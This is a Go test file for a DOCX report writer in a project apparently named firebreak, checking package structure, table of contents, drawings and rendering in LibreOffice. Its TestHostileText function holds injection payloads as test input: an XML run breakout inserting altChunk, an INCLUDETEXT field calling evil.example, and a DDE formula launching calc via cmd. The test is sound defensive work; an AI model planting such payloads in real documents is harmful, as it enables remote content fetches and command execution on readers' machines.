package docx_test

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"firebreak/internal/testkit"
	"firebreak/review"
	"firebreak/review/document"
	"firebreak/review/docx"
)

func rich(t *testing.T) document.Document {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("..", "testdata", "rich.json"))
	if err != nil {
		t.Fatal(err)
	}
	var r review.Review
	if err := json.Unmarshal(data, &r); err != nil {
		t.Fatal(err)
	}
	return document.Of(r)
}

func write(t *testing.T, d document.Document) []byte {
	t.Helper()
	data, err := docx.Write(d)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func open(t *testing.T, data []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name] = string(text)
	}
	return out
}

// look is what a reader of the package finds.
type look struct {
	text     string              // of runs alone
	elements map[string]int      // by local name
	values   map[string][]string // of attributes, by element and name
}

func read(t *testing.T, name, part string) look {
	t.Helper()
	l := look{elements: map[string]int{}, values: map[string][]string{}}
	d := xml.NewDecoder(strings.NewReader(part))
	in := ""
	var text strings.Builder
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("%s is not well formed: %v", name, err)
		}
		switch token := token.(type) {
		case xml.StartElement:
			in = token.Name.Local
			l.elements[in]++
			if in == "br" || in == "tab" {
				text.WriteString(" ")
			}
			for _, a := range token.Attr {
				key := in + "@" + a.Name.Local
				l.values[key] = append(l.values[key], a.Value)
			}
		case xml.EndElement:
			if in = ""; token.Name.Local == "p" {
				text.WriteString("\n")
			}
		case xml.CharData:
			if in == "t" {
				text.Write(token)
			} else if s := strings.TrimSpace(string(token)); s != "" && in != "instrText" && strings.HasPrefix(name, "word/") {
				t.Errorf("%s: text %q outside of a run", name, s)
			}
		}
	}
	l.text = text.String()
	return l
}

// check looks at the whole package: every part is well formed and has a type,
// every relationship leads to a part, every link to a bookmark.
func check(t *testing.T, data []byte) map[string]look {
	t.Helper()
	parts := open(t, data)
	looks := map[string]look{}
	for name, part := range parts {
		looks[name] = read(t, name, part)
	}
	types := looks["[Content_Types].xml"]
	for _, name := range types.values["Override@PartName"] {
		if _, ok := parts[strings.TrimPrefix(name, "/")]; !ok {
			t.Errorf("a type for %s, which is not there", name)
		}
	}
	for name := range parts {
		if !strings.HasSuffix(name, ".rels") {
			continue
		}
		from := path.Dir(path.Dir(name))
		for i, target := range looks[name].values["Relationship@Target"] {
			if _, ok := parts[path.Join(from, target)]; !ok {
				t.Errorf("%s: %s leads nowhere", name, target)
			}
			if id := looks[name].values["Relationship@Id"][i]; from == "word" && i >= 3 && !strings.Contains(parts["word/document.xml"], `r:id="`+id+`"`) {
				t.Errorf("%s: nothing uses %s", name, id)
			}
		}
		if looks[name].values["Relationship@TargetMode"] != nil {
			t.Errorf("%s: a relationship leaves the file", name)
		}
	}
	body := looks["word/document.xml"]
	marks := map[string]bool{}
	for _, m := range body.values["bookmarkStart@name"] {
		if marks[m] || len(m) > 40 {
			t.Errorf("bookmark %s", m)
		}
		marks[m] = true
	}
	for _, a := range body.values["hyperlink@anchor"] {
		if !marks[a] {
			t.Errorf("a link to %s, which is not there", a)
		}
	}
	styles := map[string]bool{}
	for _, s := range looks["word/styles.xml"].values["style@styleId"] {
		styles[s] = true
	}
	for _, key := range []string{"pStyle@val", "rStyle@val", "tblStyle@val"} {
		for _, s := range body.values[key] {
			if !styles[s] {
				t.Errorf("style %s is not there", s)
			}
		}
	}
	return looks
}

func TestRich(t *testing.T) {
	d := rich(t)
	data := write(t, d)
	if again := write(t, d); !bytes.Equal(data, again) {
		t.Error("two writings differ")
	}
	body := check(t, data)["word/document.xml"]
	for _, b := range d.Blocks {
		if h, ok := b.(document.Heading); ok && strings.Count(body.text, h.Text.String()) < 2 {
			t.Errorf("heading %q does not stand in the text and in the contents", h.Text)
		}
	}
	if n := len(body.values["hyperlink@anchor"]); n < 100 {
		t.Errorf("%d links", n)
	}
	core := open(t, data)["docProps/core.xml"]
	if !strings.Contains(core, "<dc:creator></dc:creator>") || strings.Contains(core, "Ada") {
		t.Errorf("properties: %s", core)
	}
	// Everything that the document says stands there, in its order.
	rest := flat(body.text)
	for _, want := range said(d) {
		_, after, ok := strings.Cut(rest, want)
		if !ok {
			t.Fatalf("%q is missing, or in another place", want)
		}
		rest = after
	}
}

// TestDrawings has a drawing with words for each figure, and none for what cannot
// be drawn.
func TestDrawings(t *testing.T) {
	d := rich(t)
	var want []string
	for _, b := range d.Blocks {
		f, ok := b.(document.Figure)
		if _, below := f.Drawing.(document.Histogram); ok && !below {
			want = append(want, f.Alt)
		}
	}
	part := open(t, write(t, d))["word/document.xml"]
	body := read(t, "word/document.xml", part)
	if got := body.values["docPr@descr"]; len(want) < 4 || !slices.Equal(got, want) {
		t.Errorf("%d drawings say %q, want %d: %q", len(got), got, len(want), want)
	}
	ids := body.values["docPr@id"]
	slices.Sort(ids)
	if len(slices.Compact(ids)) != len(want) {
		t.Errorf("ids %v", ids)
	}
	for _, words := range []string{"identify", "recover", "attacker", "responders", "act of a responder"} {
		if !strings.Contains(part, `preserve">`+words) {
			t.Errorf("%q stands in no drawing", words)
		}
	}
	for _, x := range body.values["off@y"] {
		if n, err := strconv.Atoi(x); err != nil || n < -100_000 || n > 10_000_000 {
			t.Errorf("a shape at %s", x)
		}
	}
	d.Blocks = []document.Block{document.Figure{Caption: "C", Alt: "Nothing to be drawn"}, document.Figure{Alt: "Empty", Drawing: document.Bars{}}}
	body = check(t, write(t, d))["word/document.xml"]
	if body.elements["drawing"] != 0 || !strings.Contains(body.text, "Nothing to be drawn") || !strings.Contains(body.text, "Empty") {
		t.Errorf("%d drawings, %q", body.elements["drawing"], body.text)
	}
}

// TestContents has a line for each heading of two levels, with a field for its page.
func TestContents(t *testing.T) {
	d := rich(t)
	part := open(t, write(t, d))["word/document.xml"]
	from, to := strings.Index(part, "ContentsHeading"), strings.Index(part, `<w:pStyle w:val="Heading1"/>`)
	toc := part[from:to]
	n := 0
	for _, b := range d.Blocks {
		if h, ok := b.(document.Heading); ok && h.Level <= 2 {
			n++
		}
	}
	if n < 20 || strings.Count(toc, " PAGEREF b") != n || strings.Count(toc, "<w:hyperlink ") != n {
		t.Errorf("%d headings, %d pages, %d links", n, strings.Count(toc, " PAGEREF b"), strings.Count(toc, "<w:hyperlink "))
	}
	if strings.Count(toc, `Requires="w15"`) != 4 || !strings.Contains(toc, ` TOC \o "1-2" \h`) {
		t.Error("no field of Word's")
	}
}

func flat(s string) string { return strings.Join(strings.Fields(s), " ") }

// said are the texts of a document in their order.
func said(d document.Document) []string {
	out := []string{d.Title, d.Subtitle}
	text := func(t document.Text) { out = append(out, flat(t.String())) }
	var block func(document.Block)
	block = func(b document.Block) {
		switch b := b.(type) {
		case document.Heading:
			text(b.Text)
		case document.Paragraph:
			text(b.Text)
		case document.Note:
			text(b.Text)
		case document.List:
			for _, x := range b.Items {
				text(x)
			}
		case document.Definitions:
			for _, x := range b.Items {
				out = append(out, x.Term)
				text(x.Text)
			}
		case document.Verbatim:
			out = append(out, flat(b.Text))
		case document.Table:
			for _, c := range b.Columns {
				out = append(out, c.Title)
			}
			for _, r := range b.Rows {
				for _, c := range r.Cells {
					text(c)
				}
			}
		case document.Figure:
			if _, below := b.Drawing.(document.Histogram); below {
				return // it stands in the timeline
			}
			out = append(out, b.Caption, flat(b.Alt))
			if b.Facts != nil {
				block(*b.Facts)
			}
		case document.PageBreak:
		}
	}
	for _, b := range d.Blocks {
		block(b)
	}
	return out
}

func TestHostileText(t *testing.T) {
	plain := len(check(t, write(t, hostile("quiet")))["word/document.xml"].elements)
	ours := append(testkit.Hostile(), "</w:t></w:r><w:altChunk r:id=\"rId9\"/>", "{ INCLUDETEXT http://evil.example }", "=cmd|'/c calc'!A1")
	for _, h := range []string{strings.Join(ours, " "), strings.Repeat("x", 20_000), ""} {
		looks := check(t, write(t, hostile(h)))
		if n := len(looks["word/document.xml"].elements); n > plain+2 { // a line break and a tab in a run
			t.Errorf("%.40q brings elements of its own", h)
		}
		for _, field := range looks["word/document.xml"].values["fldChar@fldCharType"] {
			if field != "begin" && field != "separate" && field != "end" {
				t.Errorf("%.40q: field %s", h, field)
			}
		}
	}
}

// hostile is a document with that text wherever text can stand.
func hostile(h string) document.Document {
	all := document.Text{{Text: h}, {Text: h, Style: document.Strong}, {Text: h, Style: document.Code, To: h}, {Text: h, To: "x"}}
	return document.Document{
		Title: h, Subtitle: h, Language: h, Footer: h, Tool: h, Made: time.Date(2026, 1, 2, 3, 4, 5, 6, time.UTC),
		Banner: []document.Badge{{Kind: document.BadgeTLP, Text: h, Tone: document.Tone(h)}},
		Blocks: []document.Block{
			document.Heading{ID: h, Level: -1, Text: all},
			document.Heading{ID: "x", Level: 9, Text: all},
			document.Paragraph{Text: all},
			document.Note{Tone: document.Bad, Text: all},
			document.List{Ordered: true, Items: []document.Text{all, all}},
			document.Definitions{Items: []document.Definition{{Term: h, Text: all}}},
			document.Verbatim{Text: h, Code: true},
			document.PageBreak{},
			document.Table{ID: h, Caption: h, Columns: []document.Column{{Title: h}, {Title: h, Kind: document.Digest}}, Rows: []document.Row{{ID: h, Cells: []document.Text{all}}, {Divide: true}}},
			document.Figure{ID: h, Caption: h, Alt: h, Facts: &document.Table{Columns: []document.Column{{Title: h}}}},
		},
	}
}

func TestOpensInLibreOffice(t *testing.T) {
	if os.Getenv("FIREBREAK_SOAK") == "" {
		t.Skip("set FIREBREAK_SOAK=1: it takes half a minute")
	}
	office, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("soffice is missing: install libreoffice-writer-nogui")
	}
	if _, err := exec.LookPath("pdftotext"); err != nil {
		t.Skip("pdftotext is missing: install poppler-utils")
	}
	dir := t.TempDir()
	d := rich(t)
	if err := os.WriteFile(filepath.Join(dir, "review.docx"), write(t, d), 0o600); err != nil {
		t.Fatal(err)
	}
	c := exec.CommandContext(t.Context(), office, "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless", "--convert-to", "pdf", "--outdir", dir, filepath.Join(dir, "review.docx"))
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	text, err := exec.CommandContext(t.Context(), "pdftotext", "-layout", filepath.Join(dir, "review.pdf"), "-").Output()
	if err != nil {
		t.Fatal(err)
	}
	for _, b := range d.Blocks {
		if h, ok := b.(document.Heading); ok && !bytes.Contains(text, []byte(h.Text.String())) {
			t.Errorf("heading %q is not in what LibreOffice shows", h.Text)
		}
	}
	if n := len(regexp.MustCompile(`(?m)\.{9,} ?[1-9][0-9]*$`).FindAll(text, -1)); n < 20 {
		t.Errorf("%d lines of the contents have a page", n)
	}
	for _, words := range []string{"attacker", "responders", "act of a responder"} {
		if !bytes.Contains(text, []byte(words)) {
			t.Errorf("%q of a drawing is not in what LibreOffice shows", words)
		}
	}
}
